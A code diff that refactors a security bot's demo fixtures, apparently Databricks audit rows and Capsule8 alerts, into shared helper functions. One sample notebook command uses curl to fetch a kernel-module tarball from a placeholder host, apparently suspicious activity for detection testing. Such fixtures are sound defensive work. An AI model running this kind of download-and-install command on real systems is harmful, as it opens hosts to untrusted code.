@@ -5,7 +5,7 @@ from __future__ import annotations
 from datetime import datetime, timedelta, timezone
 from typing import Any
 
-WORKSPACE_ID = 1234567890123456
+from bot.audit_rows import capsule8_row, cluster_row, minutes_ago, node_timeline_row, notebook_command_row
 
 # (cluster id, name, owner, access mode, driver instance, executor instances)
 SAMPLE_CLUSTERS = [
@@ -17,34 +17,16 @@ TIMELINE_ONLY = ("0101-090000-old004", "i-0d44dd44dd44dd440")  # a terminated cl
 
 
 def _capsule8(n: int, at: datetime, detection: str, instance: str, **params: str) -> dict[str, Any]:
-    return {
-        "event_id": f"demo-c8-{n:04d}",
-        "event_time": at.isoformat(),
-        "workspace_id": WORKSPACE_ID,
-        "service_name": "capsule8-alerts-dataplane",
-        "action_name": detection,
-        "request_params": {"instanceId": instance, **params},
-        "response": {"status_code": 200},
-        "user_identity": {"email": None, "subject_name": None},
-    }
+    return capsule8_row(f"demo-c8-{n:04d}", detection, instance, at, **params)
 
 
 def _command(n: int, at: datetime, cluster: str, user: str, notebook: str, text: str) -> dict[str, Any]:
-    return {
-        "event_id": f"demo-nb-{n:04d}",
-        "event_time": at.isoformat(),
-        "workspace_id": WORKSPACE_ID,
-        "service_name": "notebook",
-        "action_name": "runCommand",
-        "request_params": {"clusterId": cluster, "notebookId": notebook, "commandText": text, "executionTime": "0.4"},
-        "response": {"status_code": 200},
-        "user_identity": {"email": user, "subject_name": None},
-    }
+    return notebook_command_row(f"demo-nb-{n:04d}", cluster, at, user, text, notebook_id=notebook, executionTime="0.4")
 
 
 def sample_rows(now: datetime | None = None) -> list[dict[str, Any]]:
     now = now or datetime.now(timezone.utc)
-    t = lambda minutes: now - timedelta(minutes=minutes)  # noqa: E731
+    t = lambda minutes: minutes_ago(minutes, now)  # noqa: E731
     etl, ds, ml = (c[0] for c in SAMPLE_CLUSTERS)
     return [
         _command(1, t(52), ds, "dana@example.com", "4048611", "%sh curl -sO https://files.example.org/tools/kmod-helper.tgz"),
@@ -64,17 +46,11 @@ def sample_rows(now: datetime | None = None) -> list[dict[str, Any]]:
 def sample_node_timeline(now: datetime | None = None) -> list[dict[str, Any]]:
     now = now or datetime.now(timezone.utc)
     cluster, instance = TIMELINE_ONLY
-    return [
-        {"workspace_id": str(WORKSPACE_ID), "cluster_id": cluster, "instance_id": instance,
-         "start_time": now - timedelta(minutes=m + 1), "end_time": now - timedelta(minutes=m), "driver": True,
-         "node_type": "i3.xlarge"}
-        for m in range(0, 120, 10)
-    ]
+    return [node_timeline_row(cluster, instance, now - timedelta(minutes=m + 1), now - timedelta(minutes=m))
+            for m in range(0, 120, 10)]
 
 
 def sample_cluster_records(now: datetime | None = None) -> list[dict[str, Any]]:
     now = now or datetime.now(timezone.utc)
     cluster, _ = TIMELINE_ONLY
-    return [{"workspace_id": str(WORKSPACE_ID), "cluster_id": cluster, "cluster_name": "adhoc-research",
-             "owned_by": "riley@example.com", "change_time": now - timedelta(hours=5), "dbr_version": "14.3.x-scala2.12",
-             "data_security_mode": "NONE", "policy_id": None, "delete_time": None, "create_time": now - timedelta(hours=6)}]
+    return [cluster_row(cluster, "adhoc-research", "riley@example.com", now - timedelta(hours=6), now - timedelta(hours=5))]
